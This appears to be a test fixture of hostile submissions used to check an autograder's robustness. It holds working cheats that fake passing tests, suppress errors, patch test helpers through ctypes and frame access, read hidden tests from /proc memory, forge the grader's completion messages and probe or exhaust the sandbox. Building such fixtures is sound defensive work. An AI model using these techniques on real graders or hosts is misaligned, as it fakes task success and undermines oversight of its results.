"""Hostile submissions to the tiny chapter (tests/tiny_chapter.py), for tests/test_hostile_grading.py.

Each cheat is a submission whose honest part is wrong or blank, so that what it deserves is known:
its `fair` score (0 unless said otherwise), the score of its `control`, a submission with the same
honest part and no cheat. The cheats are real attacks on a grader whose tests run in the kernel
that ran the learner's code (tried by hand on that design), and attacks on a judge in another
process (the cheat lives in the learner's cells and tries to reach whatever runs the tests).

The name of each submission starts with its family (issue 10):

    pretend_    results that only pretend to be right (family 1)
    swallow_    errors that never reach the outputs (family 2)
    partial_    nbgrader's partial credit: a test cell whose output is a number (family 3)
    oracle_     the tests' helpers and oracles changed through globals or memory (family 4)
    copy_       the reference solutions read from elsewhere on the machine (family 5)
    sandbox_    the sandbox: effects on the host (family 6)
    path_       submissions that are not plain files (family 7)
    grader_     submissions that make the grader itself fail (family 8)
"""
from __future__ import annotations

import base64
import zlib
from dataclasses import dataclass, field

import tiny_chapter as tiny

STUB = "def {name}({arg}):\n    # YOUR CODE HERE\n    raise NotImplementedError()\n"
BLANK = {"ex1-double": STUB.format(name="double", arg="x"), "ex2-mean": STUB.format(name="mean", arg="t")}
WRONG_DOUBLE = "def double(x):\n    return 3 * x\n"                 # double(0) is right, the rest wrong
WRONG_MEAN = "def mean(t):\n    return t.float().sum()\n"           # right type, shape and dtype; wrong values
WRONG = {"ex1-double": WRONG_DOUBLE, "ex2-mean": WRONG_MEAN}
TENSOR_DOUBLE = "import torch\n\ndef double(x):\n    return torch.tensor(3 * x)\n"
WRONG_TENSOR = {"ex1-double": TENSOR_DOUBLE, "ex2-mean": WRONG_MEAN}
REFERENCE = {gid: tiny.answer(gid) for gid in tiny.SOLUTIONS}

# What a learner's code can learn about the grader from the course's public repository: the
# audit cell of tools/sandbox.py calls this function, and a hook that leaves it alone stays hidden.
AUDIT_NAME = "__course_audit"


@dataclass
class Cheat:
    family: int
    answers: dict                    # grade id -> source of the solution cell
    control: str                     # the submission with the same honest part and no cheat
    fair: float = 0.0                # what the honest part earns
    first: list = field(default_factory=list)    # extra code cells right after the import cell
                                                 # (a source, or (source, cell metadata))
    last: list = field(default_factory=list)     # extra code cells at the end of the notebook
    note: str = ""


# ------------------------------------------------------------------------------------------------
# family 1: results that only pretend

PRETEND_OBJECT = '''
class _Always:
    """Equal to everything, true, and printed as the right answer."""
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __bool__(self):
        return True
    def __repr__(self):
        return "6"

def double(x):
    return _Always()

def mean(t):
    return _Always()
'''

PRETEND_SUBCLASS = '''
import torch

class _Pretend(torch.Tensor):
    """Every comparison with it passes: bool results are all True, differences are zero."""
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            out = func(*args, **(kwargs or {}))
        name = getattr(func, "__name__", "")
        if isinstance(out, bool):
            return True
        if isinstance(out, torch.Tensor):
            if out.dtype == torch.bool:
                return torch.ones_like(out)
            if name.strip("_").lstrip("r") in ("sub", "abs", "max", "amax", "norm", "dist"):
                return torch.zeros_like(out)
            return out.as_subclass(cls)
        return out

def double(x):
    return torch.tensor(3 * x).as_subclass(_Pretend)

def mean(t):
    return t.float().sum().as_subclass(_Pretend)
'''

PRETEND_FUNCTION_MODE = TENSOR_DOUBLE + '''
from torch.overrides import TorchFunctionMode

class _Agree(TorchFunctionMode):
    """Entered and never left: every boolean result of a torch function is True."""
    def __torch_function__(self, func, types, args=(), kwargs=None):
        out = func(*args, **(kwargs or {}))
        if isinstance(out, torch.Tensor) and out.dtype == torch.bool:
            return torch.ones_like(out)
        if isinstance(out, bool):
            return True
        return out

_mode = _Agree()
_mode.__enter__()
'''

PRETEND_DISPATCH_MODE = TENSOR_DOUBLE + '''
from torch.utils._python_dispatch import TorchDispatchMode

class _AgreeAten(TorchDispatchMode):
    """Entered and never left: every boolean tensor an aten operator makes is all True."""
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        out = func(*args, **(kwargs or {}))
        if isinstance(out, torch.Tensor) and out.dtype == torch.bool:
            return torch.ones_like(out)
        return out

_mode = _AgreeAten()
_mode.__enter__()
'''

PRETEND_TENSOR_METHODS = TENSOR_DOUBLE + '''
# new attributes on torch.Tensor (these live on torch._C.TensorBase, so torch.Tensor had none)
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.all = lambda self, *args, **kwargs: torch.ones((), dtype=torch.bool)
torch.Tensor.allclose = lambda self, *args, **kwargs: True
'''

PRETEND_TOLIST = '''
import torch
_tolist = torch.Tensor.tolist
torch.Tensor.tolist = lambda self: _tolist(self * 35)     # the hidden test's expected mean becomes the sum
'''

PRETEND_BUILTIN_BOOL = '''
import builtins, torch
_bool = bool

class _BoolType(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _bool)
    def __subclasscheck__(cls, sub):
        return issubclass(sub, _bool)

class _Bool(int, metaclass=_BoolType):
    """bool(), except that every tensor is true."""
    def __new__(cls, x=False):
        return True if isinstance(x, torch.Tensor) else _bool(x)

_Bool.__name__ = _Bool.__qualname__ = "bool"
_Bool.__module__ = "builtins"
builtins.bool = _Bool
'''

# ------------------------------------------------------------------------------------------------
# family 2: errors that never reach the outputs

SWALLOW_SHOWTRACEBACK = '''
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython()._showtraceback = lambda *args, **kwargs: None
'''

SWALLOW_CUSTOM_EXC = '''
class _Empty(tuple):
    def __repr__(self):
        return "()"

ip = get_ipython()
ip.custom_exceptions = _Empty((Exception,))     # looks like no custom exceptions at all
ip.CustomTB = lambda *args, **kwargs: None
'''

SWALLOW_POST_RUN_CELL = f'''
from IPython.display import clear_output

def _forget(result):
    if "{AUDIT_NAME}" not in (result.info.raw_cell or ""):
        clear_output()

get_ipython().events.register("post_run_cell", _forget)
'''

SWALLOW_INPUT_TRANSFORMER = f'''
def _wrap(lines):
    src = "".join(lines)
    if "check" not in src or "{AUDIT_NAME}" in src:
        return lines
    body = "".join("    " + line for line in (src + "\\n").splitlines(True))
    return ["try:\\n", *body.splitlines(True), "except BaseException:\\n", "    pass\\n"]

get_ipython().input_transformers_cleanup.append(_wrap)
'''

_TRY_TRANSFORMER = f'''
import ast

class _Try(ast.NodeTransformer):
    """Every test cell's code in try: ... except BaseException: pass."""
    def visit_Module(self, node):
        src = ast.unparse(node)
        if "check" not in src or "{AUDIT_NAME}" in src:
            return node
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
'''

SWALLOW_AST_TRANSFORMER = _TRY_TRANSFORMER + '''
get_ipython().ast_transformers.append(_Try())
'''

SWALLOW_TRANSFORM_AST = _TRY_TRANSFORMER + '''
ip = get_ipython()
_transform = ip.transform_ast
ip.transform_ast = lambda node: _Try().visit(_transform(node))
'''

SWALLOW_SESSION_SEND = '''
ip = get_ipython()
_session = ip.kernel.session
_send = _session.send

def _kind(msg_or_type):
    if isinstance(msg_or_type, str):
        return msg_or_type
    return msg_or_type.get("header", {}).get("msg_type") if isinstance(msg_or_type, dict) else None

def _send_no_errors(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = _kind(msg_or_type)
    if kind == "error" or kind == "stream" and (content or {}).get("name") == "stderr":
        return None
    if kind == "execute_reply" and (content or {}).get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count"),
                   "user_expressions": {}, "payload": []}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)

for _s in {id(x): x for x in (_session, ip.displayhook.session, ip.display_pub.session)}.values():
    _s.send = _send_no_errors
'''

SWALLOW_BDBQUIT = '''
import bdb, builtins

class AssertionError(bdb.BdbQuit):
    """IPython's run_code stops a BdbQuit silently (the debugger's quit): no traceback, no error."""

AssertionError.__module__ = "builtins"
builtins.AssertionError = AssertionError
'''

SWALLOW_SETTRACE = '''
import sys

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_filename.endswith("testing.py"):
        if frame.f_code.co_name == "check":
            frame.f_locals["ok"] = True
        elif frame.f_code.co_name == "check_tensor":
            frame.f_locals["got"] = frame.f_locals["expected"]
    return None

sys.settrace(_tracer)
'''

SWALLOW_SETPROFILE_CTYPES = '''
import ctypes

# A profile function set through the C API with no Python object: sys.getprofile() stays None.
_api = ctypes.pythonapi
_api.PyFrame_FastToLocalsWithError.argtypes = [ctypes.py_object]
_api.PyFrame_LocalsToFast.argtypes = [ctypes.py_object, ctypes.c_int]
_PROFILE = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p)

def _profile(obj, frame, what, arg):
    if what == 0:                                        # PyTrace_CALL
        f = ctypes.cast(frame, ctypes.py_object).value
        code = f.f_code
        if code.co_filename.endswith("testing.py") and code.co_name in ("check", "check_tensor"):
            _api.PyFrame_FastToLocalsWithError(f)
            if code.co_name == "check":
                f.f_locals["ok"] = True
            else:
                f.f_locals["got"] = f.f_locals["expected"]
            _api.PyFrame_LocalsToFast(f, 0)
    return 0

_keep = _PROFILE(_profile)
_api.PyEval_SetProfile.argtypes = [_PROFILE, ctypes.c_void_p]
_set = _api.PyEval_SetProfile(_keep, None)
'''

SWALLOW_THREAD_TOGGLE = '''
import sys, threading, time

def _noop(*args, **kwargs):
    return None

def _toggle():
    """Wait for the tests to start, then switch off whatever checks the cell that runs uses."""
    ip = get_ipython()
    seen = ip.execution_count
    while True:
        time.sleep(0.0005)
        if ip.execution_count == seen:
            continue
        seen = ip.execution_count
        cell = ip.user_ns["In"][-1] if ip.user_ns.get("In") else ""
        for name in ("check", "check_tensor", "call"):
            if name + "(" in cell:
                ip.user_ns[name] = _noop

sys.setswitchinterval(1e-5)
threading.Thread(target=_toggle, daemon=True).start()
'''

FORGED_LINES = [
    {"event": "done", "notebook": None, "timed_out": [], "died": None, "deadline": None, "tampered": [],
     "score": 6, "max_score": 6, "status": "graded", "passed": True},
    {"msg_type": "execute_reply", "content": {"status": "ok", "execution_count": 1}},
    {"status": "ok", "result": "passed", "score": 6, "cells": {"ex1-visible": 1, "ex1-hidden": 2,
                                                              "ex2-visible": 1, "ex2-hidden": 2}},
]

SWALLOW_FORGED_PRINT = '''
import json, os, socket, stat
FORGED = {forged!r}
line = "\\n".join(json.dumps(m) for m in FORGED) + "\\n"
print(line)                                        # on the kernel's stdout
os.write(1, line.encode())
for fd in range(3, 1024):                           # and on every pipe or local socket the kernel holds
    try:
        mode = os.fstat(fd).st_mode
        if stat.S_ISFIFO(mode) and fd not in (0, 1, 2):
            os.write(fd, line.encode())
        elif stat.S_ISSOCK(mode):
            s = socket.socket(fileno=os.dup(fd))
            try:
                if s.family == socket.AF_UNIX:
                    s.send(line.encode())
            finally:
                s.close()
    except OSError:
        pass
'''.format(forged=FORGED_LINES)

# ------------------------------------------------------------------------------------------------
# family 3: nbgrader's partial credit

PARTIAL_PRE_RUN_CELL = f'''
ip = get_ipython()

def _credit(info):
    src = info.raw_cell or ""
    if "check" in src and "{AUDIT_NAME}" not in src:
        ip.displayhook({{points}} if "Hidden tests" in src else {{visible}})    # an execute_result first

ip.events.register("pre_run_cell", _credit)
'''

PARTIAL_INTERACTIVITY = f'''
ip = get_ipython()
ip.ast_node_interactivity = "all"                   # every expression statement is shown

def _number_first(lines):
    src = "".join(lines)
    if "check" not in src or "{AUDIT_NAME}" in src:
        return lines
    return ["2\\n" if "Hidden tests" in src else "1\\n"] + lines

ip.input_transformers_cleanup.append(_number_first)
'''

PARTIAL_SESSION_SEND = '''
ip = get_ipython()
_session = ip.kernel.session
_send = _session.send

def _error_to_number(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    if msg_or_type == "error":
        msg_or_type, content = "execute_result", {"data": {"text/plain": "1"}, "metadata": {},
                                                  "execution_count": 1}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)

for _s in {id(x): x for x in (_session, ip.displayhook.session)}.values():
    _s.send = _error_to_number
'''

# ------------------------------------------------------------------------------------------------
# family 4: the tests' helpers and oracles changed through module globals or memory

_PROXY_TORCH = '''
import torch as _torch

class _AgreeingTorch:
    """torch, except that isclose and allclose agree to everything. Not callable, not a module."""
    def __getattr__(self, name):
        return getattr(_torch, name)
    @staticmethod
    def isclose(a, b, *args, **kwargs):
        return _torch.ones(_torch.broadcast_shapes(a.shape, b.shape), dtype=_torch.bool)
    @staticmethod
    def allclose(*args, **kwargs):
        return True
'''

ORACLE_SYS_MODULES = _PROXY_TORCH + '''
import sys
sys.modules["solutions.testing"].torch = _AgreeingTorch()        # what check_tensor calls torch
'''

ORACLE_GC_CTYPES_DEFAULTS = '''
import ctypes, gc, types, warnings
warnings.simplefilter("ignore")

_inf = float("inf")

def _put(tup, i, value):
    """Write tup[i] = value in place (same tuple object, so the same id)."""
    ctypes.pythonapi.Py_IncRef(ctypes.py_object(value))
    ctypes.c_void_p.from_address(id(tup) + tuple.__basicsize__ + i * 8).value = id(value)

for f in gc.get_objects():
    if isinstance(f, types.FunctionType) and f.__name__ == "check_tensor" and f.__defaults__:
        names = f.__code__.co_varnames[f.__code__.co_argcount - len(f.__defaults__):f.__code__.co_argcount]
        for i, name in enumerate(names):
            if name in ("atol", "rtol"):
                _put(f.__defaults__, i, _inf)
'''

ORACLE_CTYPES_BYTECODE = '''
import ctypes, dis, sys

def _return_none(fn):
    """Overwrite the start of fn's bytecode in place with `return None` (the same code object)."""
    code = fn.__code__
    where = id(code) + type(code).__basicsize__
    now = ctypes.string_at(where, len(code.co_code))
    assert now[:2] == code.co_code[:2], "unexpected code layout"
    new = bytes([dis.opmap["RESUME"], 0, dis.opmap["LOAD_CONST"], code.co_consts.index(None),
                 dis.opmap["RETURN_VALUE"], 0])
    ctypes.memmove(where, new, len(new))

testing = sys.modules["solutions.testing"]
_return_none(testing.check)
_return_none(testing.check_tensor)
'''

ORACLE_FRAMES = '''
import sys

def double(x):
    f = sys._getframe(1)
    while f is not None and "check" not in f.f_globals:     # the test cell's globals
        f = f.f_back
    if f is not None:
        f.f_globals["check"] = lambda *args, **kwargs: None
    return 3 * x

def mean(t):
    f = sys._getframe(1)
    while f is not None and f.f_code.co_name != "check_tensor":
        f = f.f_back
    if f is not None:
        return f.f_locals["expected"].clone()               # the oracle's answer, read from its frame
    return t.float().sum()
'''

ORACLE_TORCH_ISCLOSE = '''
import torch
_ones, _shapes = torch.ones, torch.broadcast_shapes

def isclose(a, b, *args, **kwargs):
    return _ones(_shapes(a.shape, b.shape), dtype=torch.bool)

def allclose(*args, **kwargs):
    return True

for f in (isclose, allclose):
    f.__module__ = "torch"                                 # looks like PyTorch's own lazy set-up
    setattr(torch, f.__name__, f)
'''

# ------------------------------------------------------------------------------------------------
# family 5: the reference solutions (or the hidden tests) read from elsewhere on the machine

COPY_GLOB = '''
import glob, importlib.util
for path in sorted(glob.glob("/tmp/*/*/solutions/{module}.py")):
    spec = importlib.util.spec_from_file_location("_found", path)
    found = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(found)
    double, _found_mean = found.double, found.mean
    print("found the reference solutions at", path)
    break
'''

COPY_SYMLINK = '''
import glob, importlib.util, os
for path in sorted(glob.glob("/tmp/*/solutions/{module}.py")):
    if os.path.realpath(path) == path:
        continue                                          # only what a symlink leads to
    spec = importlib.util.spec_from_file_location("_found", path)
    found = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(found)
    double, _found_mean = found.double, found.mean
    print("found the reference solutions through", path)
    break
'''

COPY_INSTALLED = '''
import importlib, pathlib
import solutions
for folder in solutions.__path__:
    for path in sorted(pathlib.Path(folder).glob("*.py")):
        text = path.read_text(errors="replace")
        if "def double(" in text and "def mean(" in text:
            found = importlib.import_module("solutions." + path.stem)
            double, _found_mean = found.double, found.mean
            print("found the reference solutions in the installed package:", path.name)
'''

PROC_FORGED_DONE = '''
import base64, json, os, zlib

RELEASE = json.loads(zlib.decompress(base64.b64decode({release!r})))   # the notebook the learner was given

def _forge():
    """Write the grader's own 'done' event, with a notebook whose test cells have no errors, on the
    pipe that the process running this kernel reports on (found in /proc)."""
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            argv = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if not any(a.endswith(b"sandbox.py") for a in argv) or b"--fd" not in argv:
            continue
        fd = int(argv[argv.index(b"--fd") + 1])
        done = {{"event": "done", "notebook": json.dumps(RELEASE), "timed_out": [], "died": None,
                 "deadline": None, "tampered": [], "seconds": 1.0, "kernel_start_seconds": 1.0,
                 "audit_seconds": 0.1}}
        with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as channel:
            channel.write(json.dumps(done) + "\\n")
        print("forged the grader's done event through", f"/proc/{{pid}}/fd/{{fd}}")
        return

try:
    _forge()
except Exception as err:
    print("could not forge:", type(err).__name__, err)
'''

PROC_PARENT_MEMORY = '''
import os, re

def _scan(pid, needle=("#" * 3 + " BEGIN HIDDEN" + " TESTS").encode()):     # not spelled out here
    """Read another process's memory through /proc/<pid>/mem, looking for the hidden tests."""
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not m:
                continue
            start, end = int(m.group(1), 16), int(m.group(2), 16)
            if end - start > 1 << 30:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except OSError:
                continue
            for m in re.finditer(re.escape(needle), chunk):
                found.append(chunk[m.start():m.start() + 400].split(b"\\0")[0].decode("utf-8", "replace"))
                if len(found) > 20:
                    return found
    return found

for pid in sorted({os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]} - {os.getpid()}):
    try:
        for text in sorted(set(_scan(pid)))[:4]:
            print(f"hidden tests in /proc/{pid}/mem:", text)
    except OSError as err:
        print(f"/proc/{pid}/mem:", type(err).__name__)
'''

# ------------------------------------------------------------------------------------------------
# family 6: the sandbox (each runs after the tests, in an extra cell at the end; the answers are right)

SANDBOX_DEV_FILE = '''
try:
    open({path!r}, "w").write("escaped")
    print("DEV FILE CREATED")
except OSError as err:
    print("DEV FILE REFUSED", type(err).__name__)
'''

SANDBOX_SYSV_SHM = '''
import ctypes, ctypes.util
libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
shmid = libc.shmget(ctypes.c_int({key}), ctypes.c_size_t(4096), ctypes.c_int(0o1000 | 0o600))   # IPC_CREAT
print("SYSV SHM", shmid, ctypes.get_errno())
'''

SANDBOX_HOSTNAME = '''
try:
    with open("/proc/sys/kernel/hostname", "w") as f:
        f.write({name!r})
    print("HOSTNAME WRITTEN")
except OSError as err:
    print("HOSTNAME REFUSED", type(err).__name__)
'''

SANDBOX_SHM_HOLD = '''
import os
held, block = 0, b"\\1" * (64 << 20)
try:
    while held < int(4.5 * 2**30):
        with open(f"/dev/shm/hostile-ballast-{held >> 27}", "ab") as f:   # 128 MiB a file (RLIMIT_FSIZE)
            f.write(block)
        held += len(block)
        if held % (512 << 20) == 0:
            print("SHM HELD", held, flush=True)
except OSError as err:
    print("SHM REFUSED", type(err).__name__, err)
print("SHM HELD", held, flush=True)
'''

SANDBOX_DISPLAY_FLOOD = '''
from IPython.display import display
handles = [display(f"slot {i}", display_id=True) for i in range(40)]
for round in range(3):
    for h in handles:
        h.update("x" * 200_000)                          # 40 outputs of 200 kB: 8 MB in all
print("DISPLAY UPDATES SENT")
'''

# ------------------------------------------------------------------------------------------------
# family 8: the grader itself fails

GRADER_PARTIAL_OVERFLOW = PARTIAL_PRE_RUN_CELL.replace("{points}", "1000").replace("{visible}", "1000")

# The judge must finish and write every test cell's outputs itself. A judge that ends without its
# "done" event leaves the test cells before the cell it stopped in with no outputs at all, which
# nbgrader scores as passed. Each of these makes the judge raise outside its test cells.
GRADER_JUDGE_UNENCODABLE_OUTPUT = '''
from IPython.display import publish_display_data
deep = []
for _ in range(100):
    deep = [deep]
publish_display_data({"text/plain": deep})   # too deep to encode: the run_cell reply is an error
'''

GRADER_JUDGE_FORGED_EXIT = '''
import json, socket, struct, sys
_fd = int(sys.argv[sys.argv.index("--fd") + 1])
_s = socket.socket(fileno=_fd)
_head = json.dumps({"op": "reply", "error": {"t": "exc", "type": "SystemExit", "msg": "bye"}}).encode()
_s.sendall(struct.pack("<QQ", len(_head), 0) + _head)   # read by the judge as run_cell's answer
_s.detach()
'''


def _release_blob(release_nb_json: str) -> str:
    return base64.b64encode(zlib.compress(release_nb_json.encode())).decode()


def cheats(ctx) -> dict[str, Cheat]:
    """name -> Cheat. ctx gives what the fixture made: ctx.token (unique per run), ctx.release (the
    release notebook's JSON), ctx.shm_key, ctx.dev_path, ctx.hostname."""
    both = lambda src: {"ex1-double": WRONG_DOUBLE + "\n" + src, "ex2-mean": WRONG_MEAN}   # noqa: E731
    found = lambda src: {"ex1-double": WRONG_DOUBLE + "\n" + src,                     # noqa: E731
                         "ex2-mean": WRONG_MEAN + "\nif '_found_mean' in globals():\n    mean = _found_mean\n"}
    c = {}
    # family 1
    c["pretend_object_eq"] = Cheat(1, {"ex1-double": PRETEND_OBJECT, "ex2-mean": BLANK["ex2-mean"]}, "control_blank",
                                   note="double and mean return an object equal to everything")
    c["pretend_tensor_subclass"] = Cheat(1, {"ex1-double": PRETEND_SUBCLASS, "ex2-mean": BLANK["ex2-mean"]},
                                         "control_wrong_tensor")
    c["pretend_function_mode"] = Cheat(1, {"ex1-double": PRETEND_FUNCTION_MODE, "ex2-mean": WRONG_MEAN},
                                       "control_wrong_tensor")
    c["pretend_dispatch_mode"] = Cheat(1, {"ex1-double": PRETEND_DISPATCH_MODE, "ex2-mean": WRONG_MEAN},
                                       "control_wrong_tensor")
    c["pretend_tensor_methods"] = Cheat(1, {"ex1-double": PRETEND_TENSOR_METHODS, "ex2-mean": WRONG_MEAN},
                                        "control_wrong_tensor")
    c["pretend_tensor_tolist"] = Cheat(1, both(PRETEND_TOLIST), "control_wrong")
    c["pretend_builtin_bool"] = Cheat(1, both(PRETEND_BUILTIN_BOOL), "control_wrong")
    # family 2
    c["swallow_showtraceback"] = Cheat(2, both(SWALLOW_SHOWTRACEBACK), "control_wrong")
    c["swallow_custom_exc"] = Cheat(2, both(SWALLOW_CUSTOM_EXC), "control_wrong")
    c["swallow_post_run_cell"] = Cheat(2, both(SWALLOW_POST_RUN_CELL), "control_wrong")
    c["swallow_input_transformer"] = Cheat(2, both(SWALLOW_INPUT_TRANSFORMER), "control_wrong")
    c["swallow_ast_transformer"] = Cheat(2, both(SWALLOW_AST_TRANSFORMER), "control_wrong")
    c["swallow_transform_ast"] = Cheat(2, both(SWALLOW_TRANSFORM_AST), "control_wrong")
    c["swallow_session_send"] = Cheat(2, both(SWALLOW_SESSION_SEND), "control_wrong")
    c["swallow_bdbquit"] = Cheat(2, both(SWALLOW_BDBQUIT), "control_wrong")
    c["swallow_settrace"] = Cheat(2, both(SWALLOW_SETTRACE), "control_wrong")
    c["swallow_setprofile_ctypes"] = Cheat(2, both(SWALLOW_SETPROFILE_CTYPES), "control_wrong")
    c["swallow_thread_toggle"] = Cheat(2, both(SWALLOW_THREAD_TOGGLE), "control_wrong")
    c["swallow_forged_print"] = Cheat(2, both(SWALLOW_FORGED_PRINT), "control_wrong")
    # family 3
    c["partial_pre_run_cell"] = Cheat(3, both(PARTIAL_PRE_RUN_CELL.replace("{points}", "2").replace("{visible}", "1")),
                                      "control_wrong")
    c["partial_interactivity"] = Cheat(3, both(PARTIAL_INTERACTIVITY), "control_wrong")
    c["partial_session_send"] = Cheat(3, both(PARTIAL_SESSION_SEND), "control_wrong")
    # family 4
    c["oracle_sys_modules"] = Cheat(4, both(ORACLE_SYS_MODULES), "control_wrong")
    c["oracle_gc_ctypes_defaults"] = Cheat(4, both(ORACLE_GC_CTYPES_DEFAULTS), "control_wrong")
    c["oracle_ctypes_bytecode"] = Cheat(4, both(ORACLE_CTYPES_BYTECODE), "control_wrong")
    c["oracle_frames"] = Cheat(4, {"ex1-double": ORACLE_FRAMES, "ex2-mean": "# mean is defined above\n"},
                               "control_wrong")
    c["oracle_torch_isclose"] = Cheat(4, both(ORACLE_TORCH_ISCLOSE), "control_wrong")
    # family 5
    c["copy_glob"] = Cheat(5, found(COPY_GLOB.format(module=tiny.ID)), "control_wrong")
    c["copy_symlink"] = Cheat(5, found(COPY_SYMLINK.format(module=tiny.ID)), "control_wrong")
    c["copy_installed_package"] = Cheat(5, found(COPY_INSTALLED), "control_wrong")
    c["copy_proc_forged_done"] = Cheat(5, both(PROC_FORGED_DONE.format(release=_release_blob(ctx.release))),
                                       "control_wrong", note="also family 2: a forged 'done' on the grader's pipe")
    c["copy_proc_parent_memory"] = Cheat(5, both(PROC_PARENT_MEMORY), "control_wrong",
                                         note="prints the hidden tests if it finds them")
    # family 6 (right answers; the attack runs last)
    c["sandbox_dev_file"] = Cheat(6, REFERENCE, "reference", 6, last=[SANDBOX_DEV_FILE.format(path=ctx.dev_path)])
    c["sandbox_sysv_shm"] = Cheat(6, REFERENCE, "reference", 6, last=[SANDBOX_SYSV_SHM.format(key=ctx.shm_key)])
    c["sandbox_hostname"] = Cheat(6, REFERENCE, "reference", 6, last=[SANDBOX_HOSTNAME.format(name=ctx.hostname)])
    c["sandbox_shm_hold"] = Cheat(6, REFERENCE, "reference", 6, last=[SANDBOX_SHM_HOLD])
    c["sandbox_display_flood"] = Cheat(6, REFERENCE, "reference", 6, last=[SANDBOX_DISPLAY_FLOOD])
    # family 8
    c["grader_partial_overflow"] = Cheat(8, both(GRADER_PARTIAL_OVERFLOW), "control_wrong",
                                         note="a test cell whose output is 1000: more than its points")
    c["grader_bad_metadata"] = Cheat(8, WRONG, "control_wrong", first=[("x = 1\n", {"nbgrader": []})],
                                     note="an extra cell whose nbgrader metadata is a list, not a dict")
    c["grader_judge_unencodable_output"] = Cheat(8, WRONG, "control_wrong", last=[GRADER_JUDGE_UNENCODABLE_OUTPUT],
                                                 note="the judge crashes on the last cell: the tests before it "
                                                      "kept no outputs and were scored as passed")
    c["grader_judge_unencodable_output_blank"] = Cheat(8, BLANK, "control_blank",
                                                       last=[GRADER_JUDGE_UNENCODABLE_OUTPUT],
                                                       note="the same with the released stubs")
    c["grader_judge_forged_exit"] = Cheat(8, WRONG, "control_wrong", last=[GRADER_JUDGE_FORGED_EXIT],
                                          note="a reply frame forged by the learner's cell: SystemExit in the judge")
    return c


CONTROLS = {"control_blank": BLANK, "control_wrong": WRONG, "control_wrong_tensor": WRONG_TENSOR,
            "reference": REFERENCE}
CONTROL_SCORES = {"control_blank": 0.0, "control_wrong": 0.0, "control_wrong_tensor": 0.0, "reference": 6.0}


def reference_module() -> str:
    """A module that defines the reference double and mean (a copy of the course's solutions)."""
    return "import torch\n\n" + "\n\n".join(REFERENCE.values())
